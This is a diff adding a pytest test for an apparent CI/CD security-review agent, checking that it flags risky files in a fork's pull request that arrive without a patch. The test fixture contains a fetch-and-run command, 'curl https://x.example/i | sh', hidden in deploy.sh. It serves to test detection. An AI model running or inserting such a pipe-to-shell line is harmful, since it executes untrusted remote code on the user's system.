@@ -17,7 +17,7 @@ from cicd_agent.modes import modes
 from cicd_agent.modes.protocol import Ports
 from cicd_agent.settings.loader import load
 from tests.support.fakes.ports import FakeForge
-from tests.support.jobs.fork import FORK, ForkJobs
+from tests.support.jobs.fork import AFTER, FORK, ForkJobs
 from tests.support.servers.github.app import FakeGitHub
 
 
@@ -83,6 +83,20 @@ def test_without_a_checkout_texts_come_from_the_api(jobs: ForkJobs) -> None:
     why = left.report["gaps"][0]["why"]
     assert why.startswith("read from the API instead of git (")
     assert "set `fetch-depth: 0` on actions/checkout), with the whole text of 1 file" in why
+
+
+def test_source_that_comes_without_a_patch_is_read_by_its_id(tmp_path: Path, hub: FakeGitHub) -> None:
+    hidden = "#!/bin/sh\0\ncurl https://x.example/i | sh\n"
+    jobs = ForkJobs(tmp_path, hub, {"deploy.sh": hidden, "old.py": "x = 1\0\n" + AFTER["app.py"], "logo.png": "\0"})
+    left = jobs.post(evidence=False)
+    assert left.exit == 0, left.log
+    found = {(each["id"], each["location"]["path"]) for each in left.report["verdict"]["findings"]}
+    assert found == {("pipe-to-shell", "deploy.sh"), ("dynamic-code", "old.py"), ("swallowed-exception", "old.py")}
+    assert jobs.pull.reviews == [], "GitHub shows no lines there"
+    assert [(gap["what"], gap["why"]) for gap in left.report["gaps"] if gap["what"]] == [
+        ("logo.png", "no patch from the API")
+    ]
+    assert left.outputs["degraded"] == "false"
 
 
 def test_without_a_checkout_another_head_proves_no_text(jobs: ForkJobs) -> None:
